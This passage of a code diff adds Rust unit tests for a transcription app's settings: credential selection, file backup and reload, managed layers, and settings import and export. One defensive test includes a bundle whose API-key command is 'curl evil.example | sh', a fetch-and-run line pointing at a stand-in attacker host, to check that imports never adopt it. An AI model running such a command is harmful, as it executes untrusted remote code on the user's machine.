+        );
+    }
+
+    #[test]
+    fn test_selected_credential() {
+        let json = r#"{
+            "credentials": {
+                "openai": {
+                    "names": ["work", "personal"],
+                    "selected": "personal",
+                    "apps": {"com.tinyspeck.slackmacgap": "work", "com.example.old": "gone"}
+                },
+                "groq": {"selected": "gone"}
+            }
+        }"#;
+        let mut warnings = Vec::new();
+        let settings = parse_settings(json, &mut warnings).unwrap();
+        assert_eq!(warnings.len(), 2, "{:?}", warnings);
+
+        assert_eq!(selected_credential(&settings, "openai", None), "personal");
+        assert_eq!(
+            selected_credential(&settings, "openai", Some("com.tinyspeck.slackmacgap")),
+            "work"
+        );
+        // Dropped overrides and unknown selections fall back
+        assert_eq!(
+            selected_credential(&settings, "openai", Some("com.example.old")),
+            "personal"
+        );
+        assert_eq!(
+            selected_credential(&settings, "groq", None),
+            DEFAULT_CREDENTIAL
+        );
+        assert!(settings.credentials["openai"].contains(DEFAULT_CREDENTIAL));
+    }
+
+    #[test]
+    fn test_provider_case_is_normalized() {
+        let json = r#"{"transcription": {"provider": "Groq"}}"#;
+        let mut warnings = Vec::new();
+        let settings = parse_settings(json, &mut warnings).unwrap();
+        assert!(warnings.is_empty());
+        assert_eq!(settings.transcription.provider, TranscriptionProvider::Groq);
+    }
+
+    #[test]
+    fn test_unparseable_file_is_backed_up() {
+        let dir = std::env::temp_dir().join(format!("scrivano_settings_{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("settings.json");
+        fs::write(&path, "{\"shortcut\": ").unwrap();
+
+        let loaded = load_settings_from(&path);
+        assert_eq!(loaded.warnings.len(), 1);
+        assert_eq!(loaded.settings.shortcut.key, ShortcutConfig::default().key);
+        assert!(!path.exists());
+        let backups: Vec<_> = fs::read_dir(&dir)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().into_string().unwrap())
+            .collect();
+        assert_eq!(backups.len(), 1);
+        assert!(backups[0].starts_with("settings.json.bak-"));
+        assert_eq!(
+            fs::read_to_string(dir.join(&backups[0])).unwrap(),
+            "{\"shortcut\": "
+        );
+
+        // A missing file is not a problem
+        let loaded = load_settings_from(&path);
+        assert!(loaded.warnings.is_empty());
+
+        fs::remove_dir_all(&dir).ok();
     }
 
     #[test]
     fn test_api_keys_not_serialized() {
-        // When serializing, the api_keys field should NOT appear in output
+        // API keys live in the keychain and must never be written to the settings file
         let settings = Settings::default();
         let json = serde_json::to_string_pretty(&settings).unwrap();
         assert!(
             !json.contains("api_keys"),
-            "api_keys should be skip_serializing but was found in: {}",
+            "api_keys should not be serialized but was found in: {}",
             json
         );
     }
 
+    #[test]
+    fn test_reload_leaves_unparseable_file_alone() {
+        let dir = std::env::temp_dir().join(format!("scrivano_reload_{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("settings.json");
+
+        fs::write(&path, r#"{"version": 2, "pre_roll": true}"#).unwrap();
+        assert!(reload_settings_from(&path).unwrap().settings.pre_roll);
+
+        // A half-finished edit is reported but neither moved nor replaced
+        fs::write(&path, r#"{"version": 2, "pre_roll": tr"#).unwrap();
+        assert!(reload_settings_from(&path).is_err());
+        assert!(path.exists());
+
+        fs::remove_file(&path).unwrap();
+        let reloaded = reload_settings_from(&path).unwrap();
+        assert_eq!(reloaded.settings, Settings::default());
+
+        fs::remove_dir_all(&dir).ok();
+    }
+
+    #[test]
+    fn test_managed_settings_override_user() {
+        let user = read_document(
+            r#"{"version": 2, "pre_roll": true, "audio_processing": {"agc": true}}"#,
+            &mut Vec::new(),
+        )
+        .unwrap();
+        let managed = read_document(
+            r#"{"max_recording_secs": 60, "audio_processing": {"high_pass": true}}"#,
+            &mut Vec::new(),
+        )
+        .unwrap();
+        let mut warnings = Vec::new();
+        let settings = settings_from_layers(user.clone(), Some(&managed), &mut warnings).unwrap();
+        assert!(warnings.is_empty());
+        assert_eq!(settings.max_recording_secs, 60);
+        assert!(settings.audio_processing.high_pass);
+        // User values the managed layer doesn't touch survive, even in the same section
+        assert!(settings.audio_processing.agc);
+        assert!(settings.pre_roll);
+
+        // A managed layer that doesn't fit is ignored, not the user's file
+        let broken = read_document(r#"{"max_recording_secs": "soon"}"#, &mut Vec::new()).unwrap();
+        let mut warnings = Vec::new();
+        let settings = settings_from_layers(user, Some(&broken), &mut warnings).unwrap();
+        assert_eq!(warnings.len(), 1);
+        assert!(settings.pre_roll);
+    }
+
+    #[test]
+    fn test_import_partial_bundle() {
+        let current = Settings {
+            pre_roll: true,
+            max_recording_secs: 120,
+            ..Settings::default()
+        };
+        let bundle =
+            r#"{"version": 2, "audio_processing": {"high_pass": true}, "max_recording_secs": 60}"#;
+        let imported = import_settings(&current, bundle).unwrap();
+        assert!(imported.settings.audio_processing.high_pass);
+        assert_eq!(imported.settings.max_recording_secs, 60);
+        assert!(imported.settings.pre_roll);
+
+        assert!(import_settings(&current, "[1, 2]").is_err());
+        assert!(import_settings(&current, r#"{"pre_roll": "yes"}"#).is_err());
+    }
+
+    #[test]
+    fn test_export_round_trips() {
+        let settings = Settings {
+            transcription: TranscriptionConfig {
+                provider: TranscriptionProvider::Groq,
+            },
+            hallucination_phrases: vec!["Thanks for watching".to_string()],
+            ..Settings::default()
+        };
+        let bundle = export_settings(&settings).unwrap();
+        assert!(!bundle.contains("\"api_keys\""));
+        let imported = import_settings(&Settings::default(), &bundle).unwrap();
+        assert_eq!(imported.settings, settings);
+    }
+
+    #[test]
+    fn test_key_settings_stay_out_of_bundles() {
+        let mut settings = Settings::default();
+        settings.api_key_sources.insert(
+            "openai".to_string(),
+            ApiKeySourceConfig {
+                file: None,
+                command: Some("op read op://dev/openai/key".to_string()),
+            },
+        );
+        let bundle = export_settings(&settings).unwrap();
+        for key in KEY_SETTINGS {
+            assert!(!bundle.contains(key), "{} exported", key);
+        }
+
+        // A bundle carrying a key command doesn't get to run it here
+        let bundle = r#"{
+            "api_key_sources": {"groq": {"command": "curl evil.example | sh"}},
+            "secret_store": "encrypted_file",
+            "credentials": {"groq": {"names": ["work"]}},
+            "pre_roll": true
+        }"#;
+        let imported = import_settings(&settings, bundle).unwrap();
+        assert_eq!(imported.settings.api_key_sources, settings.api_key_sources);
+        assert_eq!(imported.settings.secret_store, settings.secret_store);
+        assert_eq!(imported.settings.credentials, settings.credentials);
+        assert!(imported.settings.pre_roll);
+        assert_eq!(imported.warnings.len(), KEY_SETTINGS.len());
+    }
+
     #[test]
     fn test_settings_round_trip() {
         // Serialize then deserialize, ensure consistency
         let original = Settings {
+            version: SETTINGS_VERSION,
             shortcut: ShortcutConfig {
                 modifiers: vec!["ctrl".to_string(), "shift".to_string()],
                 key: "a".to_string(),
             },
-            api_keys: None,
             transcription: TranscriptionConfig {
                 provider: TranscriptionProvider::Groq,
             },
-            audio_input_device: None,
+            api_key_sources: BTreeMap::from([(
+                "openai".to_string(),
+                ApiKeySourceConfig {
+                    file: None,
+                    command: Some("op read op://dev/openai/key".to_string()),
+                },
+            )]),
+            secret_store: SecretStoreKind::EncryptedFile,
+            credentials: BTreeMap::from([(
+                "groq".to_string(),
+                ProviderCredentials {
+                    names: vec!["work".to_string()],
+                    selected: Some("work".to_string()),
+                    apps: BTreeMap::new(),
+                },
+            )]),
+            usage: UsageConfig {
+                monthly_budget: Some(5.0),
+                block_over_budget: true,
+                ..UsageConfig::default()
+            },
+            audio_input_devices: vec!["Dock Mic".to_string(), "Built-in".to_string()],
+            audio_device_configs: BTreeMap::from([(
+                "scarlett 2i2".to_string(),
+                AudioDeviceConfig {
+                    channel_mix: vec![0.0, 1.0],
+                    gain_db: 6.0,
+                    sample_rate: Some(48000),
+                    buffer_size: None,
+                },
+            )]),
+            audio_processing: AudioProcessingConfig {
+                noise_suppression: true,
+                agc: true,
+                ..AudioProcessingConfig::default()
+            },
+            max_recording_secs: 120,
+            pre_roll: true,
+            pre_roll_ms: 250,
+            level_meter_bars: 8,
+            hallucination_phrases: vec!["Untertitel im Auftrag des ZDF".to_string()],
         };
         let json = serde_json::to_string(&original).unwrap();
         let restored: Settings = serde_json::from_str(&json).unwrap();
+        assert_eq!(restored.version, SETTINGS_VERSION);
         assert_eq!(restored.shortcut.key, "a");
         assert_eq!(restored.transcription.provider, TranscriptionProvider::Groq);
+        assert_eq!(restored.api_key_sources, original.api_key_sources);
+        assert_eq!(restored.secret_store, SecretStoreKind::EncryptedFile);
+        assert_eq!(restored.credentials, original.credentials);
+        assert_eq!(restored.usage, original.usage);
+        assert_eq!(restored.audio_processing, original.audio_processing);
+        assert_eq!(restored.max_recording_secs, 120);
+        assert!(restored.pre_roll);
+        assert_eq!(restored.pre_roll_ms, 250);
+        assert_eq!(
+            restored.hallucination_phrases,
+            original.hallucination_phrases
+        );
     }
 }